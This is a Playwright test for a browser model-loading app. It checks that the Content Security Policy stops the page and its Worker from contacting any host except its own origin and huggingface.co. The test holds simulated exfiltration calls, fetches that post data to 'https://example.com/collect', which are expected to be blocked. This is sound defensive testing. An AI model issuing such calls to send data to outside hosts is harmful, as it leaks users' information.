import { expect, test } from '@playwright/test';
import { serveHubModel } from './fixtures';

test('nothing leaves the tab but the model download: CSP allows only this origin and Hugging Face', async ({
  page,
}) => {
  const origins = new Set<string>();
  page.on('request', (r) => origins.add(new URL(r.url()).origin));
  await serveHubModel(page, 'tabtune-test/tiny-bert', 'st-gelu');
  // Another host that answers (offline, every request would fail anyway): only the CSP can block it now.
  let reachedOtherHost = 0;
  await page.context().route('https://example.com/**', (route) => {
    reachedOtherHost++;
    return route.fulfill({ status: 200, body: 'ok', headers: { 'access-control-allow-origin': '*' } });
  });
  await page.goto('/');
  await expect(page.getByTestId('backend-name')).toHaveText('webgpu');
  await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute(
    'content',
    /connect-src 'self' https:\/\/huggingface.co/,
  );

  // The page and its Worker cannot reach any other host.
  const fromPage = await page.evaluate(() =>
    fetch('https://example.com/collect', { method: 'POST', body: 'data' }).then(
      () => 'sent',
      () => 'blocked',
    ),
  );
  expect(fromPage).toBe('blocked');
  const worker = page.workers()[0]!;
  expect(
    await worker.evaluate(() =>
      fetch('https://example.com/collect').then(
        () => 'sent',
        () => 'blocked',
      ),
    ),
  ).toBe('blocked');
  expect(reachedOtherHost).toBe(0);

  // Loading a model and profiling the sample data talk only to this origin and huggingface.co.
  await page.getByLabel('Hugging Face model id').fill('tabtune-test/tiny-bert');
  await page.getByRole('button', { name: 'Load from Hugging Face' }).click();
  await expect(page.getByRole('definition').filter({ hasText: 'tabtune-test/tiny-bert' })).toBeVisible();
  await expect(page.getByLabel('Usable rows', { exact: true })).toContainText('1000 usable rows');
  expect([...origins].sort()).toEqual(['http://127.0.0.1:4173', 'https://huggingface.co']);
});
